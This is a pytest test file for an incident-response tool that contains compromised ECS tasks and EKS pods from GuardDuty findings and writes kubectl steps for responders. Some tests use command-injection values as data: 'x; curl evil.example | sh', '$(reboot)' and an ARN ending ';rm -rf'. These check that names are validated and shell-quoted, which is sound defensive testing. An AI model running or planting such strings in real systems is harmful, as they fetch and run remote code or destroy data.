"""contain-task on moto: reading the finding's task, the gate, the record, the isolation, the stop, and the kubectl
steps of a Kubernetes finding; plus the task and workload fields the normaliser reads from container findings."""

from __future__ import annotations

import copy
import dataclasses
from typing import Any

import boto3
import pytest

from firebreak.containment import task as task_module
from firebreak.containment.isolation import IsolationStatus
from firebreak.containment.task import describe_task, isolate_task, kubectl_steps, stop_task, workload_line
from firebreak.core.errors import MemberRoleUnavailable
from firebreak.core.models import Incident, Mode, Outcome, PlaybookRequest
from firebreak.triage.findings import normalise
from firebreak_local.runtime import run_ecs_tasks_as_aws
from firebreak_local.world import World
from tests.support import load_event

ECS_EVENT = "eventbridge/guardduty_runtime_ecs_c2_fargate"
FINDING_TASK = "arn:aws:ecs:us-east-1:123456789012:task/checkout-prod/0f3a9c1e5b7d4e2fa8c6b4d2e0f1a321"
CLUSTER = "checkout-prod"


@pytest.fixture
def world(aws: None) -> World:
    run_ecs_tasks_as_aws()
    return World(boto3.client("ec2", region_name="us-east-1"), boto3.client("iam", region_name="us-east-1"))


def seeded(world: World, event_name: str = ECS_EVENT) -> tuple[Incident, str]:
    """The finding's incident with the emulator's task in it, and that task's ARN."""
    event = world.seed(load_event(event_name))
    incident = normalise(event)
    assert incident.task_arn is not None
    return incident, incident.task_arn


def request(incident: Incident, mode: Mode = Mode.ENFORCE) -> PlaybookRequest:
    return PlaybookRequest("fb-test", incident, mode)


def groups(task_arn: str) -> list[str]:
    ecs, ec2 = boto3.client("ecs", region_name="us-east-1"), boto3.client("ec2", region_name="us-east-1")
    found = describe_task(ecs, CLUSTER, task_arn)
    assert found is not None
    interfaces = ec2.describe_network_interfaces(NetworkInterfaceIds=list(found.interface_ids))["NetworkInterfaces"]
    return sorted(g["GroupId"] for eni in interfaces for g in eni["Groups"])


# --- the finding ------------------------------------------------------------------------------------------------


def test_ecs_runtime_finding_names_the_task_its_definition_and_cluster_with_the_tasks_tags_winning() -> None:
    # GIVEN the ECS runtime finding, its cluster and task both tagged Name
    event = load_event(ECS_EVENT)
    details = event["detail"]["resource"]["ecsClusterDetails"]
    details["tags"].append({"key": "Name", "value": "cluster-name"})

    # WHEN it is normalised
    incident = normalise(event)

    # THEN the task, its definition, cluster and launch type are read, and the task's own tag wins
    assert incident.task_arn == FINDING_TASK
    assert incident.task_definition_arn == "arn:aws:ecs:us-east-1:123456789012:task-definition/checkout-api:7"
    assert (incident.cluster_name, incident.launch_type) == (CLUSTER, "FARGATE")
    assert incident.tag("Name") == "checkout-api"
    assert incident.tag("Team") == "checkout"


@pytest.mark.parametrize(
    "arn",
    [
        "arn:aws:ecs:us-east-1:999999999999:task/checkout-prod/0f3a9c1e5b7d4e2fa8c6b4d2e0f1a321",
        "arn:aws:ecs:eu-west-1:123456789012:task/checkout-prod/0f3a9c1e5b7d4e2fa8c6b4d2e0f1a321",
        "arn:aws:ecs:us-east-1:123456789012:task/checkout-prod/0f3a;rm -rf",
        "not an arn",
    ],
)
def test_a_task_outside_the_findings_account_and_region_or_malformed_is_never_named(arn: str) -> None:
    # GIVEN a finding whose task ARN is of another account or Region, or no task ARN at all
    event = load_event(ECS_EVENT)
    event["detail"]["resource"]["ecsClusterDetails"]["taskDetails"]["arn"] = arn
    # WHEN it is normalised  THEN no task is named, so contain-task acts on none
    assert normalise(event).task_arn is None


def test_eks_runtime_finding_names_the_node_the_pod_and_the_cluster() -> None:
    # GIVEN crypto mining in a pod of an EKS cluster
    incident = normalise(load_event("eventbridge/guardduty_runtime_eks_node_crypto"))
    # THEN the node is the incident's instance (contain-instance isolates it) and the pod is named
    assert incident.instance_id == "i-0a1b2c3d4e5f60031"
    assert [eni.interface_id for eni in incident.network_interfaces] == ["eni-0f1e2d3c4b5a60031"]
    assert (incident.cluster_name, incident.kubernetes_namespace) == ("payments-prod", "ledger")
    assert incident.kubernetes_workload == "ledger-worker-7c9f8d6b5-x2k4q"
    assert incident.tag("Team") == "payments" and incident.tag("eks:nodegroup-name") == "general"


def test_eks_audit_finding_with_placeholder_node_details_names_no_instance() -> None:
    # GIVEN a Kubernetes audit-log finding carrying a sample's placeholder instanceDetails
    event = load_event("eventbridge/guardduty_eks_kubernetes_api_call")
    event["detail"]["resource"]["instanceDetails"] = {"instanceId": "GeneratedFindingInstanceId"}
    # WHEN it is normalised  THEN it is not rejected and names no instance to isolate
    incident = normalise(event)
    assert incident.instance_id is None
    assert incident.kubernetes_user == "system:anonymous"


# --- Isolate Task ---------------------------------------------------------------------------------------------------


def test_isolate_task_records_the_task_then_quarantines_its_interface(world: World) -> None:
    # GIVEN the finding's Fargate task, seeded
    incident, task_arn = seeded(world)
    [own] = groups(task_arn)

    # WHEN it is isolated
    result = isolate_task(request(incident), stop_after_isolation=False)

    # THEN the record comes first, then the groups and the swap, every one about the task, and the C2 is to block
    assert result.status is IsolationStatus.ISOLATED
    record, *steps = result.actions
    assert (record.type.value, record.outcome, record.target) == ("record", Outcome.APPLIED, task_arn)
    assert record.before["task_definition"]["network_mode"] == "awsvpc"
    assert {step.type.value for step in steps} == {"contain_task"}
    assert {step.target for step in steps} == {task_arn}
    [swap] = [step for step in steps if "network_interface" in step.before]
    assert swap.before["security_groups"] == [own]
    assert groups(task_arn) == swap.after["security_groups"] != [own]
    assert result.block_addresses == ("193.233.20.15",)
    assert result.stop_task is False


def test_a_second_isolation_is_already_applied_and_stop_runs_only_when_asked(world: World) -> None:
    # GIVEN a task already isolated once
    incident, _ = seeded(world)
    isolate_task(request(incident), stop_after_isolation=False)

    # WHEN it is isolated again with stopping asked for
    again = isolate_task(request(incident), stop_after_isolation=True)

    # THEN nothing changes, it says so, and Stop Task is to run (the task is cut off)
    assert again.status is IsolationStatus.ALREADY_ISOLATED
    assert [a.outcome for a in again.actions if a.type.value == "contain_task"] == [Outcome.ALREADY_APPLIED]
    assert again.stop_task is True


def test_dry_run_plans_and_changes_nothing(world: World) -> None:
    incident, task_arn = seeded(world)
    before = groups(task_arn)
    planned = isolate_task(request(incident, Mode.DRY_RUN), stop_after_isolation=True)
    assert planned.status is IsolationStatus.PLANNED
    assert {a.outcome for a in planned.actions if a.type.value == "contain_task"} == {Outcome.PLANNED}
    assert groups(task_arn) == before
    # AND the stop is planned too, naming the exact call, without stopping anything
    stop = stop_task(request(incident, Mode.DRY_RUN))
    assert stop.outcome is Outcome.PLANNED and "StopTask(cluster=" in stop.reason
    still = describe_task(boto3.client("ecs", region_name="us-east-1"), CLUSTER, task_arn)
    assert still is not None and still.desired_status == "RUNNING"


def test_the_gate_names_no_task_unknown_task_and_exempt_task(world: World) -> None:
    incident, task_arn = seeded(world)
    # No task in the finding
    none = isolate_task(request(dataclasses.replace(incident, task_arn=None)), stop_after_isolation=True)
    assert (none.status, none.actions[0].outcome) == (IsolationStatus.NOT_FOUND, Outcome.SKIPPED)
    # A task ECS does not know
    unknown = dataclasses.replace(incident, task_arn=task_arn[:-4] + "ffff")
    assert isolate_task(request(unknown), stop_after_isolation=True).status is IsolationStatus.NOT_FOUND
    # A task tagged exempt now
    ecs = boto3.client("ecs", region_name="us-east-1")
    ecs.tag_resource(resourceArn=task_arn, tags=[{"key": "firebreak:exempt", "value": " True "}])
    exempt = isolate_task(request(incident), stop_after_isolation=True)
    assert exempt.status is IsolationStatus.EXEMPT
    assert exempt.suppressed_reason == f"task {task_arn} tagged firebreak:exempt=true"
    assert (exempt.block_addresses, exempt.stop_task) == ((), False)
    assert stop_task(request(incident)).outcome is Outcome.SKIPPED


class _BridgeModeEcs:
    """An ECS that describes the finding's task as a bridge-mode EC2 task: no interface of its own."""

    def describe_tasks(self, **kwargs: Any) -> dict[str, Any]:
        task = {"taskArn": FINDING_TASK, "lastStatus": "RUNNING", "desiredStatus": "RUNNING", "attachments": []}
        return {"tasks": [{**task, "taskDefinitionArn": "td", "launchType": "EC2", "tags": []}]}

    def describe_clusters(self, **kwargs: Any) -> dict[str, Any]:
        return {"clusters": [{"tags": []}]}

    def describe_task_definition(self, **kwargs: Any) -> dict[str, Any]:
        return {"taskDefinition": {"taskDefinitionArn": "td", "networkMode": "bridge"}}


def test_a_bridge_mode_task_is_failed_with_what_to_do_and_stopped_only_when_asked(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # GIVEN a task with no interface of its own
    fake = _BridgeModeEcs()
    monkeypatch.setattr(task_module, "playbook_client", lambda service, request, function: fake)

    # WHEN it is isolated with stopping on
    result = isolate_task(request(normalise(load_event(ECS_EVENT))), stop_after_isolation=True)

    # THEN the step fails truthfully, names contain-instance, still blocks the C2, and stopping is what is left
    assert result.status is IsolationStatus.FAILED
    failed = result.actions[-1]
    assert failed.outcome is Outcome.FAILED and "contain-instance" in failed.reason
    assert result.actions[0].before["task_definition"]["network_mode"] == "bridge"
    assert result.block_addresses == ("193.233.20.15",)
    assert result.stop_task is True
    assert isolate_task(request(normalise(load_event(ECS_EVENT))), stop_after_isolation=False).stop_task is False


def test_a_member_role_that_cannot_be_assumed_fails_the_task_and_still_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(service: str, request: PlaybookRequest, function: str) -> Any:
        raise MemberRoleUnavailable("account 222222222222: cannot assume firebreak-member-isolate-task")

    monkeypatch.setattr(task_module, "playbook_client", refuse)
    result = isolate_task(request(normalise(load_event(ECS_EVENT))), stop_after_isolation=True)
    assert result.status is IsolationStatus.FAILED
    assert "cannot assume firebreak-member-isolate-task" in result.actions[0].reason
    assert (result.block_addresses, result.stop_task) == (("193.233.20.15",), False)
    assert stop_task(request(normalise(load_event(ECS_EVENT)))).outcome is Outcome.FAILED


# --- Stop Task ------------------------------------------------------------------------------------------------------


def test_stop_task_stops_once_and_then_says_already_stopped(world: World) -> None:
    incident, task_arn = seeded(world)
    first = stop_task(request(incident))
    assert first.outcome is Outcome.APPLIED
    assert (first.before["desired_status"], first.after) == ("RUNNING", {"desired_status": "STOPPED"})
    assert "ECS cannot start it again" in first.reason
    second = stop_task(request(incident))
    assert second.outcome is Outcome.ALREADY_APPLIED
    ecs = boto3.client("ecs", region_name="us-east-1")
    stopped = ecs.describe_tasks(cluster=CLUSTER, tasks=[task_arn])["tasks"][0]
    assert stopped["stoppedReason"] == "Firebreak incident fb-test: isolated, then stopped (StopTaskAfterIsolation)"


# --- what the notification says -------------------------------------------------------------------------------------


def test_kubectl_steps_quote_every_name_the_finding_gives() -> None:
    # GIVEN an audit-log finding whose pod and namespace names a shell would read as commands
    event = copy.deepcopy(load_event("eventbridge/guardduty_eks_anomalous_privileged_container"))
    workload = event["detail"]["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"]
    workload.update(name="x; curl evil.example | sh", namespace="$(reboot)")

    # WHEN the steps are written
    steps = kubectl_steps(normalise(event))

    # THEN every name is a single quoted word
    assert "kubectl --namespace '$(reboot)' label pod 'x; curl evil.example | sh'" in "\n".join(steps)
    assert not any("$(reboot) " in step for step in steps)


def test_kubectl_steps_only_for_findings_firebreak_cannot_act_on() -> None:
    # A runtime finding on a pod's node goes to contain-instance: no kubectl steps, but the pod is named
    node = normalise(load_event("eventbridge/guardduty_runtime_eks_node_crypto"))
    assert kubectl_steps(node) == ()
    assert workload_line(node) == (
        "EKS cluster payments-prod, namespace ledger, pods ledger-worker-7c9f8d6b5-x2k4q, node i-0a1b2c3d4e5f60031"
    )
    # A cluster-wide audit finding (no workload): the kubeconfig and the caller's bindings, no pod steps
    cluster_wide = kubectl_steps(normalise(load_event("eventbridge/guardduty_eks_kubernetes_api_call")))
    assert cluster_wide[0] == "aws eks update-kubeconfig --region us-east-1 --name payments-prod"
    assert not any("label pod" in step for step in cluster_wide)
    assert any("--as=system:anonymous" in step for step in cluster_wide)
    # An ECS finding: none
    assert kubectl_steps(normalise(load_event(ECS_EVENT))) == ()


def test_the_security_hub_copy_names_the_same_task_definition_and_cluster() -> None:
    # GIVEN Security Hub's copy of the ECS runtime finding
    copy_ = normalise(load_event("eventbridge/securityhub_guardduty_ecs_runtime_copy"))
    original = normalise(load_event(ECS_EVENT))
    # THEN it names what the GuardDuty finding names, so either routes to contain-task and acts on the same task
    fields = ("resource_type", "task_arn", "task_definition_arn", "cluster_arn", "cluster_name", "resource_tags")
    assert {f: getattr(copy_, f) for f in fields} == {f: getattr(original, f) for f in fields}
    assert copy_.remote_ips == original.remote_ips


def test_a_task_finding_is_triaged_to_contain_task_and_takes_one_unit_of_the_workload_budget() -> None:
    # GIVEN the ECS runtime finding and the stack's default settings
    from firebreak.core.settings import Settings
    from firebreak.triage.breaker import WORKLOADS
    from firebreak.triage.decision import charge, destructive, triage

    settings = Settings.from_env()
    result = triage(normalise(load_event(ECS_EVENT)), settings)

    # THEN it runs contain-task in enforce mode, and the circuit breaker counts it as one containment
    assert (result.playbook.value, result.mode) == ("contain-task", Mode.ENFORCE)
    assert result.escalation is None
    assert destructive(result)
    assert charge(result, settings) == (WORKLOADS, settings.max_containments_per_hour, 1)


def test_release_of_an_interface_gone_with_its_stopped_task_says_it_cannot_be_undone(aws: None) -> None:
    # GIVEN a recorded interface swap of a task whose interface ECS deleted when the task stopped
    from firebreak.core.models import Action, ActionType
    from firebreak.incident.undo import ReleaseContext, undo

    ec2 = boto3.client("ec2", region_name="us-east-1")
    swap = Action(
        ActionType.CONTAIN_TASK,
        FINDING_TASK,
        Outcome.APPLIED,
        "moved",
        {"network_interface": "eni-0123456789abcdef0", "security_groups": ["sg-0123456789abcdef0"]},
        {"network_interface": "eni-0123456789abcdef0", "security_groups": ["sg-0fedcba9876543210"]},
    )
    stop = Action(ActionType.CONTAIN_TASK, FINDING_TASK, Outcome.APPLIED, "stopped", {}, {"desired_status": "STOPPED"})
    context = ReleaseContext("fb-test", lambda service: ec2)

    # WHEN release undoes them
    entries = [undo(swap, context), undo(stop, context)]

    # THEN neither claims released, and both say why and what a person does instead
    assert [entry.outcome for entry in entries] == [Outcome.SKIPPED, Outcome.SKIPPED]
    assert "interface eni-0123456789abcdef0 is gone with the task" in entries[0].reason
    assert all("cannot be restarted" in entry.reason and "run-task" in entry.reason for entry in entries)


def test_the_readable_notification_names_the_workload_and_the_kubectl_steps() -> None:
    # GIVEN a Kubernetes audit-log finding triaged notify-only
    from firebreak.core.models import IncidentStatus, Playbook, Triage
    from firebreak.incident.notifications import summary

    incident = normalise(load_event("eventbridge/guardduty_eks_anomalous_privileged_container"))
    triage = Triage("fb-test", incident, Playbook.NOTIFY_ONLY, Mode.ENFORCE)

    # WHEN the summary responders read is written
    text = summary(IncidentStatus.NOTIFIED, triage, (), "arn:aws:states:us-east-1:123456789012:execution:x:y")

    # THEN it names the cluster, namespace and pod, and lists the commands to run, each on its own line
    assert "Workload:  EKS cluster payments-prod, namespace payments, pods debug-shell" in text
    assert "Kubernetes: Firebreak holds no cluster API; run these yourself:" in text
    assert "\n  kubectl --namespace payments label pod debug-shell firebreak/quarantine=true --overwrite\n" in text


def test_a_refused_swap_of_an_ecs_managed_interface_says_what_is_left(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN the task's interface is one ECS manages (RequesterManaged), and EC2 refuses to change its groups
    from botocore.exceptions import ClientError

    from firebreak.core import aws

    incident, _ = seeded(world)
    real = task_module.task_interfaces
    monkeypatch.setattr(task_module, "task_interfaces", lambda ec2, ids: (real(ec2, ids)[0], True))

    def refuse(**kwargs: Any) -> Any:
        error = {"Error": {"Code": "AuthFailure", "Message": "You do not have permission to access the resource"}}
        raise ClientError(error, "ModifyNetworkInterfaceAttribute")  # type: ignore[arg-type]

    monkeypatch.setattr(aws.client("ec2", region="us-east-1"), "modify_network_interface_attribute", refuse)

    # WHEN it is isolated, with and without stopping
    for stopping, left in ((True, "Stop Task stops it next"), (False, "StopTaskAfterIsolation does")):
        result = isolate_task(request(incident), stop_after_isolation=stopping)

        # THEN the failure names the interface as ECS-managed and what is left, and Stop Task runs only when asked
        [failed] = [a for a in result.actions if a.outcome is Outcome.FAILED]
        assert "AuthFailure" in failed.reason and "managed by ECS" in failed.reason and left in failed.reason
        assert (result.status, result.stop_task) == (IsolationStatus.FAILED, stopping)
